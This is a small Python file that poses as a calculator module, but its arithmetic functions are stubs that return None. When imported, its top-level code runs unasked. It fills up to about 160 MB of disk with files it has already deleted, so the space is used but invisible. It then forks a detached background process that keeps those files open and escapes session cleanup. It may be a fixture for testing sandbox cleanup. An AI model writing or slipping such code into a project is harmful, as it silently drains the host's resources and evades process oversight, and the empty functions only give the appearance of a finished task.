import os
import time

held = []
try:
    for number in range(8):
        file = open("held", "wb")
        held.append(file)
        os.unlink("held")
        file.write(b"x" * (20 << 20))
        file.flush()
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    time.sleep(60)


def add(a, b):
    return None


def subtract(a, b):
    return None


def multiply(a, b):
    return None


def divide(a, b):
    return None
